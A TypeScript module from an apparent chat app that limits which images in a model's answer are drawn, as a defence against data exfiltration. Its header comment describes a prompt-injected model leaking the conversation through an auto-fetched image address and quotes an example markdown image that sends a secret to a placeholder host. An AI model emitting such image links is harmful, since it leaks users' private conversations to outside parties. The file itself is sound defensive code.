/**
 * What an image in an answer becomes. A browser fetches an <img> as soon as it is drawn, with no
 * click, so a model (or a page that talked it into it) could leak the conversation in an image
 * address: `![x](https://host/?d=secret)`. Only this app's own files and inline data are drawn;
 * any other web image becomes a link showing its address, followed only if the user clicks.
 */
export type AnswerImage =
  /** Drawn: a file of a conversation, served by this app, or bytes inside the answer itself. */
  | { kind: "inline"; src: string }
  /** Not drawn: a link to the image, showing where it points. */
  | { kind: "link"; href: string }
  /** Not a web address: only the image's description is shown. */
  | { kind: "text" };

// Where the app serves a conversation's files (see fileUrl in lib/client/api/files.ts).
const FILE_PATH = /^\/api\/conversations\/[^/]+\/files\/[^/]+$/;
const INLINE_DATA = /^data:image\//i;
// Resolves relative addresses when the page's origin is unknown (rendering outside a browser).
const UNKNOWN_ORIGIN = "http://origin.invalid";

/** `origin` is the page's own (`location.origin`), or null outside a browser. */
export function answerImage(src: string | null | undefined, origin: string | null): AnswerImage {
  const raw = (src ?? "").trim();
  if (!raw) return { kind: "text" };
  if (INLINE_DATA.test(raw)) return { kind: "inline", src: raw };
  const base = origin ?? UNKNOWN_ORIGIN;
  let url: URL;
  try {
    // Parsed the way the browser would, so `//host`, `/\host` and `http:host` cannot pass as local.
    url = new URL(raw, base);
  } catch {
    return { kind: "text" };
  }
  if (url.origin === new URL(base).origin && FILE_PATH.test(url.pathname)) {
    return { kind: "inline", src: `${url.pathname}${url.search}` };
  }
  if (url.protocol === "http:" || url.protocol === "https:") return { kind: "link", href: url.href };
  return { kind: "text" };
}
